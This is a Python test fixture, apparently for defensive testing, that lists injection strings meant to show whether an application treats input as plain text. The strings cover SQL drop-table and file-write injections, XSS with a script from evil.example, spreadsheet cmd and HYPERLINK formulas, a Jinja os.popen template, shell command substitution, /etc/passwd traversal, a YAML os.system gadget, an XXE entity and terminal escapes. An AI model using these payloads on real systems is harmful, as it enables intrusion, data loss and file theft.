"""Strings that do harm where they are taken for anything but text. Whatever runs one of them leaves a file named PWNED, or no table."""

PWNED = "PWNED"

STRINGS: tuple[str, ...] = (
    # SQL
    "'; drop table articles; --",
    "\"; drop table events; --",
    "' or 1=1 --",
    f"x'); copy (select 1) to '{PWNED}.csv'; --",
    "$$; drop view events_readable; $$",
    "$article_id ? :name %(name)s",
    "/* \\'; attach 'PWNED.duckdb' */",
    # Names that DuckDB would take for tables or files
    "articles",
    "information_schema.tables",
    "/etc/passwd",
    "read_csv_auto('/etc/passwd')",
    "*.parquet",
    # HTML
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "</title></style></textarea><script src=//evil.example/x.js></script>",
    "javascript:alert(document.domain)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!-- --!> <![CDATA[ ]]>",
    # Spreadsheets
    f"=cmd|'/c echo > {PWNED}'!A0",
    "+1+HYPERLINK(\"http://evil.example\",\"more\")",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    # Templates and formats
    "{{ 7 * 7 }} {% for x in y %}",
    f"{{{{ cycler.__init__.__globals__.os.popen('touch {PWNED}').read() }}}}",
    "{0.__class__.__mro__} {article_id!r}",
    "%s %n %x %(password)s %",
    "[bold red]x[/bold red] [link=file:///etc/passwd]y[/link]",
    # Terminals
    "\x1b[31mred\x1b[0m \x1b[2J\x1b[H",
    "\x1b]0;owned\x07 \x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "\x9b31m \x9d0;owned\x9c",
    "\x07\x08\x08\x7f",
    "moc.live\u202egnp.exe\u202c \u2066x\u2069",
    "zero\u200bwidth\ufeff\u00ad",
    # Paths and shells
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    f"$(touch {PWNED}) `touch {PWNED}` | touch {PWNED}; touch {PWNED} &",
    f"--output={PWNED} -rf",
    "~root/.ssh/authorized_keys",
    # Breakers of formats
    "one\",\"two\r\nthree,'four'\n;five",
    "\"}],\"x\":{\"__proto__\":null} \\u0000 \\",
    "!!python/object/apply:os.system ['touch PWNED'] &a *a : - #",
    "\x00\x00nul\x00",
    "]]></item><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "long" * 5000,
    "\U0001f600\u0301\u0301\u0301 \ud83d \ufffe",
)  # fmt: skip
